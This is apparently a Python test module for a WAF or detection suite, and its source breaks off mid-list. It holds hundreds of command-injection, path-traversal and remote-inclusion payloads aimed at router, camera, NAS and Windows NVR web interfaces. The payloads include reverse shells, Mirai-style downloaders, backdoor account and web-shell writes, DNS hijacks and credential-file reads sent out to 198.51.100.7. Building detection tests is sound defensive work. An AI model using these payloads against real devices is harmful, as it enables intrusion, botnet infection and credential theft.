"""Blind set "twohundredfifth": OS command injection, local file inclusion / path traversal and remote file
inclusion the way they are aimed at the web front ends of embedded and IoT devices, with benign requests that
carry the same words innocently.

The angle: embedded and IoT web interfaces, recalled from memory. Home and SOHO routers (goform handlers,
apply.cgi, webproc getpage, LuCI), IP cameras and NVRs, NAS boxes, printers, UPS cards, VPN and firewall
appliances, smart-home hubs, industrial HMIs and PLC gateways, set-top boxes: their CGI scripts run on busybox
ash (no brace expansion, telnetd/tftp/ftpget/nc applets), a few on bash (old NAS firmware, hence shellshock),
Windows-based NVR and HMI software runs cmd.exe and PowerShell; their web servers are lighttpd, boa,
mini_httpd, GoAhead or the vendor's own C daemon; diagnostic pages (ping, traceroute, nslookup), NTP/DNS
settings, firmware upload, backup/restore and TR-069 ACS forms feed their fields into shell command lines and
file paths. Each group of payloads carries a comment naming the device family, the field and the target (busybox
ash, bash, cmd.exe, PowerShell, the C CGI's fopen, PHP include on the appliance, the product).

Families (one sub-family per detection title):
  rce: unix-command-injection, unix-shell-evasion, windows-cmd-injection, powershell, unix-command-with-path,
    reverse-shell, shellshock, downloader, shell-file-write, restricted-file-in-command
  lfi: path-traversal, os-file-access, absolute-path, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-target, restricted-file-extension
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocol-scheme

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path) under the device's own field names (ping_addr, ntp_server, getpage, lang,
firmware_url, acs_url, ...), once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths
that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary
parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw form-typed
body, or in User-Agent, Referer, a custom header or a cookie. Shellshock goes only in headers (a CGI exports them
as HTTP_* variables). Whole `name=value` include requests (getpage=...&var:lang=...) go raw. Payloads with a NUL
or a newline never go into headers, cookies or the path; the path-truncation payloads (over 4 KB) go in bodies.

Authorship and independence: written for this repository from general knowledge of each attack family, device
exploits as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test or
public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "twohundredfifth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
BODY = ("json", "rs-form")
RAWQ = ("query", "rs-query")
RAWF = ("form", "rs-raw-body")

# ================================================================================================================
# rce
# ================================================================================================================

# unix-command-injection: the diagnostic field goes into `ping -c 4 <value>` through system()/popen()
UNIX_CMD: list[Entry] = [
    # SOHO router ping page (goform/formPing, boa + busybox ash): ping_addr pasted after `ping -c 4 `
    "127.0.0.1;cat /etc/passwd",
    "8.8.8.8|id",
    "no.such.host||uname -a",
    "192.168.0.1&&cat /proc/version",
    "127.0.0.1;busybox telnetd -l /bin/sh -p 2323",
    "127.0.0.1\nps w",
    # the same page on firmware whose filter bans ';' and '|' only: command substitution still runs (ash)
    "`id`",
    "$(cat /etc/shadow)",
    "1.1.1.1$(reboot)",
    # DD-WRT/Tomato style nvram routers, the traceroute field: dump the admin password from nvram
    "8.8.8.8 && nvram get http_passwd",
    "google.com$(nvram show|grep -i passw)",
    # D-Link-like NTP server field in the time settings form, written into `ntpclient -h <value>` (ash)
    "pool.ntp.org;telnetd -p 9999 -l /bin/sh;",
    "time.nist.gov`killall -9 watchdog`",
    # IP camera nslookup diagnostic (lighttpd CGI, value wrapped in single quotes): close the quote first
    "example.com';id;'",
    "8.8.8.8\";cat /etc/config/users;\"",
    # NAS hostname field in the network wizard (bash): blind, the response time is the oracle
    "nas01;sleep 10;",
    "||ping -c 10 127.0.0.1||",
]

# unix-shell-evasion: the device filters spaces, slashes or command names; the shell rebuilds them
SHELL_EVASION: list[Entry] = [
    # router ping form that rejects spaces (busybox ash expands $IFS)
    ";cat${IFS}/etc/passwd",
    "|cat$IFS/etc/shadow",
    ";cat</etc/passwd",
    ";IFS=,;a=cat,/etc/passwd;$a",
    # camera CGI that blacklists the words cat, id, passwd (ash: quotes and backslashes vanish)
    ";c'a't /e't'c/pas's'wd",
    ";c\"at\" /etc/pa\"ss\"wd",
    ";c\\at /et\\c/pass\\wd",
    ";who$()ami",
    ";c$@at /etc/passwd",
    ";ca$u't' /etc/shadow",
    # NVR filter on literal paths: globbing finds the file (ash)
    ";/???/c?t /???/p?ss??",
    ";/b??/c*t /e*c/sh*w",
    # variables and base64 (busybox base64 applet) hide the command from the filter
    ";a=ca;b=t;$a$b /etc/passwd",
    ";echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|sh",
    # NAS firmware with bash as /bin/sh: brace expansion, ANSI-C quoting and substring expansion
    ";{cat,/etc/passwd}",
    ";{ls,-la,/mnt/HD}",
    ";X=$'\\x20';cat${X}/etc/shadow",
    ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
]

# windows-cmd-injection: Windows-based NVR/VMS software, HMI web runtimes and UPS managers shell out to cmd.exe
WIN_CMD: list[Entry] = [
    # NVR server's ping diagnostic: `cmd /c ping -n 4 <value>` (cmd.exe)
    "127.0.0.1 & whoami",
    "127.0.0.1 && net user",
    "127.0.0.1 | type C:\\Windows\\win.ini",
    "no.such.host || ipconfig /all",
    "127.0.0.1 & dir C:\\ProgramData\\",
    "127.0.0.1 & tasklist /v",
    # HMI web runtime on Windows 10 IoT: add an operator account to local administrators (cmd.exe)
    "127.0.0.1 & net user hmi P@ssw0rd1 /add & net localgroup administrators hmi /add",
    "127.0.0.1 & reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\"",
    "127.0.0.1 & netsh advfirewall set allprofiles state off",
    # UPS management software's shutdown-command field, value inside double quotes (cmd.exe)
    "\" & type C:\\inetpub\\wwwroot\\web.config & \"",
    "\" & set & \"",
    # carets and %COMSPEC% hide the command name from a blacklist (cmd.exe)
    "127.0.0.1 & w^h^o^a^m^i",
    "127.0.0.1 & %COMSPEC% /c ver",
    "127.0.0.1 & cmd.exe /c \"echo %USERNAME%@%COMPUTERNAME%\"",
    # fetch and persist through built-in tools (cmd.exe)
    "127.0.0.1 & certutil -urlcache -split -f http://198.51.100.7/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe",
    "127.0.0.1 & wmic process call create \"cmd /c net user\"",
    "127.0.0.1 & schtasks /create /sc minute /tn upd /tr \"cmd /c type C:\\Windows\\win.ini\" /ru SYSTEM",
]

# powershell: the same Windows appliances, PowerShell launched from the cmd injection or the field evaluated in a
# PowerShell script
POWERSHELL: list[Entry] = [
    # NVR ping diagnostic (cmd.exe) launching PowerShell
    "127.0.0.1 & powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://"
    "198.51.100.7/a.ps1')\"",
    "127.0.0.1 & powershell -EncodedCommand dwBoAG8AYQBtAGkA",
    "127.0.0.1 & powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARA"
    "BvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADEAOQA4AC4ANQAxAC4AMQAwADAALgA3AC8AYQAuAHAAcwAxACcA"
    "KQA=",
    "127.0.0.1 | powershell -c \"iwr http://198.51.100.7/x.ps1 -UseBasicParsing | iex\"",
    "127.0.0.1 & powershell Get-Content C:\\Windows\\System32\\drivers\\etc\\hosts",
    "127.0.0.1 & powershell -ExecutionPolicy Bypass -File \\\\198.51.100.7\\s\\r.ps1",
    "127.0.0.1 & powershell -c \"(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/n.exe',"
    "'C:\\Windows\\Temp\\n.exe');Start-Process C:\\Windows\\Temp\\n.exe\"",
    "127.0.0.1 & powershell Set-MpPreference -DisableRealtimeMonitoring $true",
    "127.0.0.1 & powershell -c \"Add-LocalGroupMember -Group Administrators -Member scada\"",
    "127.0.0.1 & pwsh -c \"Get-ChildItem Env: | Out-String\"",
    # PowerShell reverse shell from the HMI runtime
    "127.0.0.1 & powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('198.51.100.7',4444);$s=$c.GetStream();"
    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding)."
    "GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$t=([text.encoding]::ASCII).GetBytes($r);$s.Write($t,0,"
    "$t.Length)}\"",
    # VMS management script that builds `Test-Connection '<value>'` and runs it (PowerShell string breakout)
    "8.8.8.8'; Get-LocalUser; '",
    "8.8.8.8'; Stop-Service -Name W3SVC -Force; '",
    "8.8.8.8'; Invoke-WebRequest -Uri http://198.51.100.7/c -Method Post -Body (Get-Content C:\\ProgramData\\"
    "vms\\config.xml -Raw); '",
    # the value sits in a double-quoted PowerShell string: subexpressions run
    "$(Get-Content C:\\Windows\\win.ini)",
    "$(Start-Process cmd -ArgumentList '/c whoami > C:\\inetpub\\wwwroot\\w.txt')",
    "$([System.Diagnostics.Process]::Start('calc.exe'))",
]

# unix-command-with-path: full paths to binaries, the way router and camera exploits call them
UNIX_PATH: list[Entry] = [
    # busybox routers and cameras (ash)
    ";/bin/busybox id",
    ";/bin/sh -c id",
    "|/usr/bin/id",
    "`/bin/cat /etc/passwd`",
    ";/sbin/reboot",
    ";/usr/sbin/telnetd -l /bin/sh -p 4444",
    ";/usr/sbin/dropbear -p 2222 -r /tmp/k",
    ";/bin/mount -o remount,rw /",
    ";/sbin/iptables -F",
    ";/sbin/ifconfig -a",
    ";/bin/ls -la /mnt/mtd",
    # nvram routers: reset the admin password
    ";/usr/sbin/nvram set http_passwd=admin;/usr/sbin/nvram commit",
    # OpenWrt (LuCI): turn on password login for SSH
    ";/sbin/uci set dropbear.@dropbear[0].PasswordAuth=on;/sbin/uci commit dropbear",
    # Synology DSM: add an administrator
    ";/usr/syno/sbin/synouser --add svc P4ssw0rd! 'svc' 0 '' 0",
    # QNAP QTS: read the firmware version and the admin config
    ";/sbin/getcfg System Version -f /etc/config/uLinux.conf",
    # NAS with Python installed
    "|/usr/bin/python -c 'import os;os.system(\"id\")'",
    ";/usr/bin/env sh -c 'cat /etc/shadow'",
]

# reverse-shell: the device connects back to the attacker
REVERSE: list[Entry] = [
    # NAS with bash
    ";bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    ";0<&196;exec 196<>/dev/tcp/198.51.100.7/4444; sh <&196 >&196 2>&196",
    ";sh -i >& /dev/udp/198.51.100.7/53 0>&1",
    # busybox routers and cameras: nc with -e, or a fifo when nc lacks -e
    ";busybox nc 198.51.100.7 4444 -e /bin/sh",
    ";nc -e /bin/ash 198.51.100.7 4444",
    "$(nc 198.51.100.7 4444 -e sh)",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f",
    ";mknod /tmp/p p;/bin/sh 0</tmp/p|telnet 198.51.100.7 4444 1>/tmp/p",
    ";telnet 198.51.100.7 4444 | /bin/sh | telnet 198.51.100.7 4445",
    # appliances with Python
    ";python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.7\",4444));"
    "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'",
    ";python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"198.51.100.7\",4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
    # appliances with Perl (older firewall and VPN boxes)
    ";perl -e 'use Socket;$i=\"198.51.100.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");"
    "exec(\"/bin/sh -i\");};'",
    # socat on a NAS with the community package
    ";socat tcp-connect:198.51.100.7:4444 exec:/bin/sh,pty,stderr,setsid",
    ";socat TCP4:198.51.100.7:4444 EXEC:bash",
    # pfSense-style PHP appliance
    ";php -r '$s=fsockopen(\"198.51.100.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    # OpenWrt has Lua (and often luasocket for LuCI)
    ";lua -e \"local s=require('socket');local t=assert(s.tcp());t:connect('198.51.100.7',4444);"
    "while true do local r=t:receive();local f=assert(io.popen(r,'r'));t:send(f:read('*a'));f:close() end\"",
    # gawk on a NAS (the /inet special file)
    ";gawk 'BEGIN{s=\"/inet/tcp/0/198.51.100.7/4444\";while(1){printf \"> \" |& s;s |& getline c;"
    "if(c){while((c |& getline) > 0) print |& s;close(c)}}}'",
    ";ncat 198.51.100.7 4444 -e /bin/bash",
]

# shellshock: bash CGIs on old NAS and appliance firmware (headers become HTTP_* environment variables)
SHELLSHOCK: list[Entry] = [
    "() { :; }; echo; /bin/cat /etc/passwd",
    "() { :;}; /bin/bash -c 'nc 198.51.100.7 4444 -e /bin/bash'",
    "() { :; }; /usr/bin/wget http://198.51.100.7/bot -O /tmp/bot; chmod 777 /tmp/bot; /tmp/bot",
    "() { _; } >_[$($())] { echo; id; }",
    "() { :;}; echo Content-type: text/plain; echo; /usr/bin/id",
    "() { :; }; /bin/sleep 20",
    "() { ignored; }; /bin/busybox telnetd -l /bin/sh -p 9090",
    "() { :; }; ping -c 3 198.51.100.7",
    "() { :; }; echo; echo; /bin/bash -c 'cat /etc/shadow'",
    "() { :; }; /bin/bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "() { :; }; /usr/bin/curl http://198.51.100.7/$(hostname)",
    "() { :;}; /usr/bin/python -c 'import os;os.system(\"id\")'",
    "() { test;};echo \"Content-type: text/plain\"; echo; echo; /bin/uname -a",
    "() { :; }; /bin/bash -c \"echo svc::0:0::/root:/bin/sh >> /etc/passwd\"",
    # QNAP QTS bash CGI: the firmware version and the admin config
    "() { 0; }; echo; /sbin/getcfg System Version -f /etc/config/uLinux.conf",
    "() { :; }; echo; /bin/cat /etc/config/smb.conf",
    "() { x; }; /bin/sh -c 'tftp -g -r s.sh -l /tmp/s.sh 198.51.100.7; sh /tmp/s.sh'",
]

# downloader: Mirai/Gafgyt-style droppers fetched into /tmp and run (busybox ash)
DOWNLOADER: list[Entry] = [
    ";cd /tmp;wget http://198.51.100.7/mips;chmod 777 mips;./mips router.goahead",
    ";cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh;"
    " sh bins.sh",
    "$(wget -qO- http://198.51.100.7/x.sh|sh)",
    "`curl -s http://198.51.100.7/i|sh`",
    ";wget -O - http://198.51.100.7/a | sh",
    "&&curl http://198.51.100.7/s.sh | bash",
    "|curl -o /tmp/.x http://198.51.100.7/x86_64;chmod +x /tmp/.x;/tmp/.x",
    # busybox without wget: tftp and ftpget applets
    ";tftp -g -r mpsl -l /tmp/m 198.51.100.7;chmod +x /tmp/m;/tmp/m",
    ";busybox tftp -g -l /tmp/a -r arm7 198.51.100.7;chmod 777 /tmp/a;/tmp/a",
    ";ftpget 198.51.100.7 /tmp/b b.sh;sh /tmp/b",
    "`cd /tmp;tftp -r a.sh -g 198.51.100.7;sh a.sh`",
    ";nc 198.51.100.7 80 > /tmp/d;chmod +x /tmp/d;/tmp/d",
    # well-known droppers: the 8UsA.sh script, Mozi's /tmp/netgear
    ";/bin/busybox wget http://198.51.100.7/8UsA.sh; sh 8UsA.sh",
    ";wget http://198.51.100.7/Mozi.m -O /tmp/netgear;sh /tmp/netgear",
    # appliance with curl over TLS and no certificate store
    "$(curl -k https://198.51.100.7/dl -o /tmp/dl && sh /tmp/dl)",
    ";curl -fsSL http://198.51.100.7/k | sh -s -- hikvision",
    # NAS with Python 2
    ";python -c \"import urllib;exec(urllib.urlopen('http://198.51.100.7/p').read())\"",
]

# shell-file-write: echo/printf/tee write a backdoor, a key, a cron job or a DNS hijack (busybox ash unless noted)
FILE_WRITE: list[Entry] = [
    # a CGI backdoor in the router's cgi-bin
    ";echo '#!/bin/sh' > /www/cgi-bin/x.cgi;echo 'echo;eval $QUERY_STRING' >> /www/cgi-bin/x.cgi;"
    "chmod +x /www/cgi-bin/x.cgi",
    ";printf '#!/bin/sh\\nbusybox telnetd -l /bin/sh\\n' > /etc/init.d/S99t;chmod +x /etc/init.d/S99t",
    # accounts and keys
    ";echo 'root::0:0:root:/root:/bin/sh' > /etc/passwd",
    "`echo admin:x:0:0::/:/bin/sh >> /etc/passwd`",
    ";echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA attacker' >> /root/.ssh/authorized_keys",
    ";echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKm3z attacker|tee -a /etc/dropbear/authorized_keys",
    # persistence
    ";echo '* * * * * wget -qO- http://198.51.100.7/c|sh' > /var/spool/cron/crontabs/root",
    ";echo '#!/bin/sh' > /jffs/scripts/services-start;echo 'telnetd -l /bin/sh -p 2323' >> "
    "/jffs/scripts/services-start",
    "$(echo 'sh -i >& /dev/tcp/198.51.100.7/4444 0>&1' > /tmp/r.sh)",
    ";tee /mnt/mtd/rc.local < /tmp/payload",
    # DNS hijack of every LAN client (dnsmasq router)
    ";echo 'nameserver 198.51.100.53' > /etc/resolv.conf",
    ";echo 'address=/bank.example/198.51.100.9' >> /etc/dnsmasq.conf;killall -HUP dnsmasq",
    # copy secrets into the web root to download them later
    ";cat /etc/shadow > /www/s.txt",
    ";cp /etc/config/uLinux.conf /home/httpd/u.txt",
    # PHP appliance (pfSense-like): a web shell in the document root
    ";echo '<?php system($_GET[\"c\"]);?>' > /usr/local/www/c.php",
    ";echo PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+ | base64 -d > /usr/local/www/b.php",
]

# restricted-file-in-command: commands that read credential and key files the device keeps
RESTRICTED_CMD: list[Entry] = [
    ";cat /etc/shadow",
    "|cat /etc/passwd",
    ";cat /proc/self/environ",
    # web server credential files (lighttpd, boa, busybox httpd)
    ";cat /etc/lighttpd/lighttpd.user",
    ";cat /etc/boa/boa.conf",
    ";head -20 /etc/httpd.conf",
    # Wi-Fi keys and WAN credentials
    ";cat /etc/config/wireless",
    "|more /etc/wpa_supplicant.conf",
    ";cat /etc/hostapd.conf",
    ";cat /etc/ppp/chap-secrets",
    ";cat /tmp/ppp/pap-secrets",
    # VPN and TLS keys on firewall appliances
    ";cat /etc/ipsec.secrets",
    ";cat /etc/openvpn/server.key",
    ";cat /root/.ssh/id_rsa",
    # Xiongmai DVR/NVR account store
    ";cat /mnt/mtd/Config/Account1",
    # exfiltrate everything
    ";tar cf - /etc | nc 198.51.100.7 9000",
    ";grep -r password /etc/config",
    ";cat /etc/.htpasswd",
]

# ================================================================================================================
# lfi
# ================================================================================================================

# path-traversal: the page/language/download field is joined to the web root without normalising
TRAVERSAL: list[Entry] = [
    # Realtek/Broadcom router webproc getpage, boa: plain dot-dot-slash
    "../../../../../../etc/passwd",
    "../../../../../../../../etc/shadow",
    "../../../../../../../../../../../../../../etc/hosts",
    "html/../../../../../../etc/passwd",
    "lang/../../../../../etc/shadow",
    # IP camera CGI that url-decodes its parameter a second time (double encoding reaches the decoder)
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    ".%2e/.%2e/.%2e/.%2e/etc/passwd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "/..%2f..%2f..%2f..%2fmnt/mtd/Config/Account1",
    # old embedded servers that decode overlong UTF-8
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    # the NAS file manager strips '../' once (non-recursive replace)
    "....//....//....//....//etc/passwd",
    "..././..././..././..././etc/shadow",
    # Windows NVR web client (backslash is a separator too)
    "..\\..\\..\\..\\windows\\win.ini",
    "..%5c..%5c..%5c..%5cwindows%5cwin.ini",
    "..\\/..\\/..\\/..\\/etc/passwd",
    "..%u2216..%u2216..%u2216windows%u2216win.ini",
    # Tomcat-based controller and management apps: the ';' path parameter survives normalisation
    "/..;/..;/WEB-INF/web.xml",
    "..;/..;/..;/conf/tomcat-users.xml",
    "../../../../../../tmp/var/run/config.xml",
]

# os-file-access: the files every traversal aims at, on Linux firmware and on Windows appliances
OS_FILES: list[Entry] = [
    # Linux firmware
    "/etc/passwd",
    "/etc/group",
    "/etc/issue",
    "../../../../etc/shadow",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/proc/self/maps",
    "/proc/self/fd/3",
    "../../../../proc/self/status",
    "/proc/mtd",
    "/proc/net/arp",
    # the management app's own secrets
    "../../.env",
    "../../.git/config",
    "../.git/HEAD",
    "../../../../var/www/.htaccess",
    "../.htpasswd",
    "../../../../root/.ssh/id_rsa",
    "../../../../home/admin/.ssh/id_rsa",
    # Windows NVR and HMI hosts
    "C:\\Windows\\win.ini",
    "C:\\boot.ini",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "C:\\Windows\\System32\\config\\SAM",
    "C:\\Windows\\repair\\sam",
    "..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts",
]

# absolute-path: device configuration files read by full path through a download/view handler
ABSOLUTE: list[Entry] = [
    # OpenWrt (LuCI, uhttpd)
    "/etc/config/network",
    "/etc/config/system",
    "/etc/dropbear/dropbear_rsa_host_key",
    # web servers of cameras and routers
    "/etc/lighttpd/lighttpd.conf",
    "/etc/boa/boa.conf",
    "/etc/httpd.conf",
    "/var/config/lighttpd.user",
    # Ralink/MediaTek router Wi-Fi driver config (holds the WPA key)
    "/etc/Wireless/RT2860/RT2860.dat",
    # Xiongmai DVR account store, Hikvision-like camera config
    "/mnt/mtd/Config/Account1",
    "/mnt/mtd/Config/passwd",
    # VPN and firewall appliances
    "/etc/openvpn/server.conf",
    "/etc/ppp/chap-secrets",
    "/etc/ssl/private/server.key",
    "/cf/conf/config.xml",
    # NAS
    "/etc/config/uLinux.conf",
    "/etc.defaults/synoinfo.conf",
    "/etc/samba/smb.conf",
    # raw flash and hardware identity
    "/dev/mtdblock3",
    "/sys/class/net/eth0/address",
    # Windows appliances, forward slashes
    "C:/inetpub/wwwroot/web.config",
    "C:/xampp/apache/conf/httpd.conf",
    "file:///etc/passwd",
]

LONG_DOTS = "/." * 2100
LONG_SLASHES = "/" * 4200

# null-byte-truncation: the device appends an extension (.htm, .asp, .lang, .js); a NUL ends the C string or the
# old PHP path, or the path is made longer than the buffer
NUL_BYTE: list[Entry] = [
    # GoAhead/boa C CGI that strcat()s ".htm" (the decoded NUL ends the string)
    "../../../../etc/passwd\x00",
    "../../../../etc/passwd\x00.htm",
    "../../../../etc/shadow\x00.asp",
    "../../../../../mnt/mtd/Config/Account1\x00",
    "../../../../etc/hosts\x00.png",
    "/tmp/../etc/passwd\x00.xml",
    "../../../../proc/self/environ\x00",
    "../../../../etc/passwd\x00index.htm",
    # router language selector `lang=<value>` loading <value>.js (boa)
    "../../../../etc/passwd\x00.js",
    "/etc/passwd\x00.lang",
    # PHP 5.2 on an old NAS or hotspot controller: include($page.'.php')
    "../../../../etc/passwd\x00.php",
    "../../../../../etc/config/uLinux.conf\x00.php",
    "php://filter/convert.base64-encode/resource=/etc/passwd\x00",
    # Windows NVR web client (C++ CGI)
    "..\\..\\..\\windows\\win.ini\x00.asp",
    "..\\..\\..\\..\\boot.ini\x00.html",
    # a CGI that decodes the value a second time: the NUL arrives percent-encoded
    "../../../../etc/passwd%00",
    "../../../../etc/shadow%00.html",
    "..%2f..%2f..%2fetc%2fpasswd%00.js",
    # PHP 5.2 path truncation (MAXPATHLEN): the appended suffix falls off the end
    ("../../../../etc/passwd" + LONG_DOTS,) + BODY,
    ("../../../../etc/shadow" + LONG_SLASHES,) + BODY,
    ("../../../../etc/passwd/" + "./" * 2100 + ".php",) + BODY,
    # Windows: trailing dots are dropped and MAX_PATH truncates
    ("..\\..\\..\\..\\boot.ini" + "." * 300,) + BODY,
]

# php-wrapper-lfi: PHP appliances (pfSense-like firewalls, NAS apps, hotspot and NVR portals) include the field
PHP_WRAPPER: list[Entry] = [
    "php://filter/convert.base64-encode/resource=/etc/passwd",
    "php://filter/read=convert.base64-encode/resource=index.php",
    "php://filter/resource=/conf/config.xml",
    "php://filter/convert.base64-encode/resource=/cf/conf/config.xml",
    "php://filter/convert.base64-encode/resource=/etc/inc/config.inc",
    "php://filter/convert.base64-encode/resource=../../../../etc/shadow",
    "php://filter/convert.base64-encode/resource=../includes/config.inc.php",
    "php://filter/string.rot13/resource=config.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "php://filter/read=string.toupper|string.rot13/resource=/etc/passwd",
    "php://filter/convert.base64-encode|convert.base64-encode/resource=/usr/local/etc/config.xml",
    "php://filter/read=convert.quoted-printable-encode/resource=/etc/passwd",
    "pHp://FilTer/convert.base64-encode/resource=/etc/passwd",
    # php://input: the POST body is the included code
    "php://input",
    # firmware/logo upload forms: the uploaded archive is included from inside
    "zip:///var/www/upload/fw.zip#shell.php",
    "zip://../../tmp/upload/backup.zip%23cmd.php",
    "phar:///tmp/firmware.bin/shell",
    "phar://../../upload/logo.jpg/x.php",
    "compress.zlib:///etc/passwd",
    "compress.zlib://php://filter/resource=/etc/shadow",
    "file:///conf/config.xml",
]

# log-poisoning-target: the log the attacker wrote PHP or shell into, included through the same field
LOG_POISON: list[Entry] = [
    # lighttpd camera and NAS UIs
    "../../../../var/log/lighttpd/access.log",
    "../../../../var/log/lighttpd/error.log",
    # boa routers, stderr of the server
    "/var/log/boa/access_log",
    "/var/log/boa/error_log",
    "../../../../proc/self/fd/2",
    "/proc/self/fd/7",
    # busybox syslogd and router syslog
    "/var/log/messages",
    "/tmp/syslog.log",
    "../../../../../var/log/syslog",
    # SSH and FTP login names poisoned on a NAS
    "/var/log/auth.log",
    "/var/log/secure",
    "/var/log/vsftpd.log",
    "/var/log/xferlog",
    # nginx and Apache on appliances and management portals
    "/var/log/nginx/access.log",
    "/var/log/nginx/error.log",
    "/var/log/apache2/access.log",
    "/var/log/httpd/access_log",
    # pfSense-like firewall
    "/var/log/system.log",
    # PHP session file of the portal (session.save_path is /tmp)
    "/tmp/sess_9b2d0e7c4f1a6b3d8e5c2a7f0d4b1c6e",
    "/var/lib/php/sessions/sess_9b2d0e7c4f1a6b3d8e5c2a7f0d4b1c6e",
    # Windows NVR and HMI web servers
    "C:\\xampp\\apache\\logs\\access.log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240611.log",
]

# restricted-file-extension: backup and config files left next to the pages, or kept by the backup/restore page
RESTRICTED_EXT: list[Entry] = [
    # router backup/restore and download handlers
    "../../../../etc/lighttpd/lighttpd.conf.bak",
    "../config/backup.cfg.bak",
    "../../settings.ini",
    "../../../../etc/samba/smb.conf.orig",
    "nvram.cfg.old",
    "../../../../tmp/config.tgz",
    # PHP management portals
    "index.php.bak",
    "config.php.old",
    "../../../../var/www/html/db.inc.php~",
    "../../config.inc.php.swp",
    ".htaccess.bak",
    "/etc/php.ini",
    "../../../../usr/local/etc/php.ini",
    # database dumps on NAS shares
    "../../conf/db.sql",
    "../../../mnt/HD/HD_a2/backup/db.sql",
    "../../backup/dump.sql.gz",
    "../../users.db",
    # Windows appliances and HMIs (.NET config, Access databases)
    "../web.config.bak",
    "..\\..\\App_Data\\settings.config",
    "..\\..\\config\\hmi.mdb",
    "..\\..\\..\\ProgramData\\vms\\server.ini",
    "../app.config",
]

# ================================================================================================================
# rfi
# ================================================================================================================

# url-with-ip-address: the field takes a URL (firmware from URL, config restore from URL, ACS URL, logo URL) and the
# attacker gives a bare IP (decimal, hex and octal forms too)
URL_IP: list[Entry] = [
    # router "upgrade from URL" and camera "fetch firmware" forms
    "http://198.51.100.7/fw/update.bin",
    "http://198.51.100.7/ota/firmware.img",
    "http://198.51.100.7:8000/x.sh",
    "https://203.0.113.9/fw/DIR-850L_A1_FW999.bin",
    # TR-069: the CPE is told to use the attacker as its ACS
    "http://198.51.100.7:7547/acs",
    "https://198.51.100.7/cwmp",
    # PHP portal include($_GET['page'])
    "http://198.51.100.7/r57.txt",
    "http://198.51.100.7/shell.txt",
    "http://192.0.2.44/logo.php",
    "https://203.0.113.9/payload.php",
    "http://198.51.100.7:80/boot.php",
    "http://10.13.37.1/inc.txt",
    # the same host written the ways a URL parser accepts (decimal, hex, octal, mapped IPv6)
    "http://3325256711/inc.php",
    "http://0xC6336407/inc.php",
    "http://0306.0063.0144.07/inc.php",
    "http://[::ffff:c633:6407]/s.txt",
    "http://198.51.25607/c.txt",
    # config restore from URL on a NAS, UPnP/SOAP callback on a media hub
    "http://198.51.100.7/backup/config.xml",
    "http://198.51.100.7:49152/evil.xml",
    "http://198.51.100.7/restore/settings.dat",
    # hotspot captive portal: splash template URL included server side
    "http://198.51.100.7/portal/splash.php",
    "http://198.51.100.7/tpl/login.tpl",
    "http://198.51.100.7/c99.txt",
    "http://198.51.100.7/shell.gif",
    "http://203.0.113.9:8080/x.php",
    "http://192.0.2.44/wso.txt",
